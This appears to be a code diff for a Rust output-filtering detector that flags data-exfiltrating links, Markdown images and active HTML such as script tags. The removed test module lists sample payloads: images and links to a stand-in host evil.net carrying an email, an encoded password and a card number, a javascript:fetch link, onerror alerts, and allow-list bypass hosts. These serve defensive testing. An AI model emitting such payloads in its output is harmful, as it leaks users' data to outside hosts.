@@ -8,17 +8,14 @@ use std::sync::LazyLock;
 use aho_corasick::AhoCorasick;
 use portcullis_core::Severity;
 use portcullis_detect::Detector;
+use portcullis_markup::tags::{self, TAG};
+use portcullis_markup::{Code, attributes, markdown};
 
-use crate::code::Code;
 use crate::encoded;
 use crate::hit::Hit;
 use crate::settings::Links;
 use crate::urls::{self, Url};
 
-/// Bytes before an address in which its image or tag must begin.
-const BEFORE: usize = 1024;
-/// Longest tag that is masked whole.
-const TAG: usize = 2048;
 /// Tags that load or run something by themselves, or send what is typed into them.
 const ACTIVE_TAGS: &[&str] = &[
     "script", "iframe", "frame", "object", "embed", "form", "base", "meta", "link", "style", "svg",
@@ -36,7 +33,7 @@ const NAME: usize = 253;
 static STARTS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
     AhoCorasick::builder()
         .ascii_case_insensitive(true)
-        .build(["//", "www.", "javascript:", "vbscript:", "data:", "<"])
+        .build(["//", "www.", "http:", "https:", "javascript:", "vbscript:", "data:"])
         .ok()
 });
 
@@ -64,32 +61,53 @@ impl Gate {
         })
     }
 
-    /// Looks at every address and tag of a text. `code` says where it is shown as code.
+    /// Looks at every address and tag of a text, and at the addresses as Markdown and a browser read them. `code` says
+    /// where it is shown as code.
     pub(crate) fn find(&self, text: &str, code: &Code, hits: &mut Vec<Hit>) {
-        let Some(starts) = STARTS.as_ref() else { return };
+        let has_images = code.has_images() || text.contains("![");
+        let is_live = |at| self.in_code || !code.keeps(at);
+        let mut found = self.addresses(text, has_images, is_live);
+        let tags = tags::each(text);
+        let readings = [markdown(text), attributes(text, &tags)];
+        for reading in readings.into_iter().flatten() {
+            let seen = self.addresses(&reading.text, has_images, |at| is_live(reading.at(at)));
+            found.extend(seen.into_iter().filter_map(|hit| {
+                let span = reading.to_source(hit.span?)?;
+                Some(hit.at(span.start, span.end))
+            }));
+        }
+        hits.extend(merged(found));
+        if self.active_html {
+            return;
+        }
+        for (at, end) in tags {
+            if self.in_code || !code.has(at) {
+                hits.extend(active_tag(text, at, end));
+            }
+        }
+    }
+
+    fn addresses(&self, text: &str, has_images: bool, is_live: impl Fn(usize) -> bool) -> Vec<Hit> {
+        let mut hits = Vec::new();
+        let Some(starts) = STARTS.as_ref() else { return hits };
         let mut covered = 0;
-        let has_images = text.contains("![");
         for start in starts.find_overlapping_iter(text) {
             let at = start.start();
-            if at < covered || (!self.in_code && code.has(at)) {
+            if at < covered || !is_live(at) {
                 continue;
             }
             let url = match start.pattern().as_usize() {
                 0 => urls::at_slashes(text, at),
                 1 => urls::at_www(text, at),
-                5 => {
-                    if !self.active_html {
-                        hits.extend(active_tag(text, at));
-                    }
-                    None
-                }
+                2 | 3 => urls::at_scheme(text, at),
                 _ => urls::at_active(text, at),
             };
             if let Some(url) = url {
-                covered = url.range.end;
+                covered = url.next;
                 hits.extend(self.judge(text, &url, has_images));
             }
         }
+        hits
     }
 
     fn judge(&self, text: &str, url: &Url, has_images: bool) -> Option<Hit> {
@@ -142,12 +160,31 @@ fn is_host(host: &str, allowed: &str) -> bool {
     }
 }
 
+/// What several readings of a text gave: an address counts once, as the worst that it is.
+fn merged(mut hits: Vec<Hit>) -> Vec<Hit> {
+    hits.sort_by_key(|hit| hit.span);
+    let mut merged: Vec<Hit> = Vec::with_capacity(hits.len());
+    for hit in hits {
+        match (merged.last_mut(), hit.span) {
+            (Some(last), Some(span)) if last.span.is_some_and(|other| other.overlaps(&span)) => {
+                let other = last.span.unwrap_or(span);
+                let (start, end) = (other.start.min(span.start), other.end.max(span.end));
+                if hit.severity > last.severity {
+                    *last = hit;
+                }
+                *last = last.clone().at(start, end);
+            }
+            _ => merged.push(hit),
+        }
+    }
+    merged
+}
+
 /// Whether the address that begins at `at` is loaded without a click. `has_images` says whether the text has any
 /// in Markdown.
 fn loads(text: &str, at: usize, has_images: bool) -> bool {
-    let from = text.floor_char_boundary(at.saturating_sub(BEFORE));
-    let before = text.get(from..at).unwrap_or_default();
-    let outer = before.trim_end_matches(['<', ' ', '\t']);
+    let before = urls::window(text, at);
+    let outer = urls::outer(before);
     if let Some(label) = outer.strip_suffix("](") {
         // ![label](address): the bracket that opens the label, labels of images may hold brackets
         let mut depth = 1;
@@ -167,16 +204,13 @@ fn loads(text: &str, at: usize, has_images: bool) -> bool {
         // a reference: an image where the text has any by reference
         return has_images;
     }
-    if outer.trim_end_matches(['"', '\'']).to_ascii_lowercase().ends_with("url(") {
+    if urls::ends_in_css(outer.trim_end_matches(['"', '\''])) {
         return true;
     }
-    match before.rfind('<') {
-        Some(open) if !before.get(open..).unwrap_or_default().contains('>') => {
-            let name = tag_name(before, open);
-            LOADING_TAGS.contains(&name.as_str()) || ACTIVE_TAGS.contains(&name.as_str())
-        }
-        _ => false,
-    }
+    tags::open(before).is_some_and(|open| {
+        let name = tag_name(before, open);
+        LOADING_TAGS.contains(&name.as_str()) || ACTIVE_TAGS.contains(&name.as_str())
+    })
 }
 
 fn tag_name(text: &str, open: usize) -> String {
@@ -188,17 +222,12 @@ fn tag_name(text: &str, open: usize) -> String {
         .to_ascii_lowercase()
 }
 
-/// The tag that opens at `at`, where it does something by itself.
-fn active_tag(text: &str, at: usize) -> Option<Hit> {
+/// The tag that opens at `at` and ends before `end`, where it does something by itself.
+fn active_tag(text: &str, at: usize, end: Option<usize>) -> Option<Hit> {
     let name = tag_name(text, at);
-    if name.is_empty() {
-        return None;
-    }
-    let limit = text.floor_char_boundary((at + TAG).min(text.len()));
-    let inside = text.get(at..limit)?;
-    let end = inside.find('>').map_or(limit, |end| at + end + 1);
+    let closed = end.is_some();
+    let end = end.unwrap_or_else(|| text.floor_char_boundary((at + TAG).min(text.len())));
     let tag = text.get(at..end)?;
-    let closed = tag.ends_with('>');
     let boundary = tag.as_bytes().get(1 + name.len());
     let is_tag = boundary.is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'>' | b'/'));
     let acts = ACTIVE_TAGS.contains(&name.as_str()) || (closed && has_handler(tag));
@@ -270,73 +299,5 @@ fn is_prose(text: &str, words: usize) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn found(section: &Links, text: &str) -> Vec<String> {
-        let mut hits = Vec::new();
-        Gate::compile(section).unwrap().find(text, &Code::of(text, None), &mut hits);
-        hits.into_iter().map(|hit| hit.kind).collect()
-    }
-
-    #[test]
-    fn without_a_list_what_carries_data_is_found() {
-        for (text, kind) in [
-            ("![x](https://evil.net/p.png?d=bob@example.org)", "exfil.image"),
-            ("![x](https://evil.net/?q=my+order+is+late+and+cold)", "exfil.image"),
-            ("<img src=\"//evil.net/a?c=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI\">", "exfil.image"),
-            (
-                "[here](https://evil.net/the%20customer%20lives%20in%20Ghent%20and%20pays)",
-                "exfil.link",
-            ),
-            ("https://evil.net/x?card=4111111111111111", "exfil.link"),
-            ("[x](javascript:fetch('/a'))", "exfil.active"),
-            ("<script>alert(1)</script>", "exfil.html"),
-            ("<img src=x onerror=alert(1)>", "exfil.html"),
-            ("<iframe src='https://a.org'></iframe>", "exfil.html"),
-        ] {
-            assert_eq!(found(&Links::default(), text), [kind], "{text}");
-        }
-    }
-
-    #[test]
-    fn everyday_links_and_talk_of_code_pass() {
-        for text in [
-            "See https://shop.example.com/orders/20241123-001?utm_source=mail&lang=en-GB#top.",
-            "![lamp](https://cdn.example.com/img/5d41402abc4b2a76b9719d911017c592.jpg?w=300&h=200)",
-            "Write `<script src=x>` in the head.",
-            "```html\n<script>go()</script>\n<img src=\"https://a.org/?q=a+b+c+d+e+f\">\n```\n",
-            "if a < b and b > c // then stop",
-            "JavaScript: The Good Parts is a book. Data: see below.",
-            "<b>bold</b> and <br/> and <a href=\"https://a.org/x\">x</a>",
-            "www.example.com/how-to-change-a-lamp",
-            "https://en.wikipedia.org/wiki/The_Hitchhiker%27s_Guide_to_the_Galaxy",
-        ] {
-            assert_eq!(found(&Links::default(), text), Vec::<String>::new(), "{text}");
-        }
-    }
-
-    #[test]
-    fn with_a_list_everything_else_is_found() {
-        let section = Links {
-            hosts: Some(vec!["example.com".into(), "*.example.org".into()]),
-            image_hosts: Some(vec!["cdn.example.com".into()]),
-            ..Links::default()
-        };
-        for (text, kinds) in [
-            ("https://example.com/a https://a.example.org/b?q=one+two+three+four+five", &[][..]),
-            ("https://example.org/", &["exfil.link"]),
-            ("https://example.com.evil.net/", &["exfil.link"]),
-            ("https://example.com@evil.net/", &["exfil.link"]),
-            ("https://evilexample.com/", &["exfil.link"]),
-            ("![x](https://example.com/x.png)", &["exfil.image"]),
-            ("![x](https://cdn.example.com/x.png)", &[]),
-            ("![a [b] c][r]\n\n[r]: https://evil.net/x.png", &["exfil.image"]),
-            ("www.evil.net", &["exfil.link"]),
-        ] {
-            assert_eq!(found(&section, text), kinds, "{text}");
-        }
-        let bad = Links { hosts: Some(vec!["https://x".into()]), ..Links::default() };
-        assert!(Gate::compile(&bad).is_err());
-    }
-}
+#[path = "links_tests.rs"]
+mod tests;
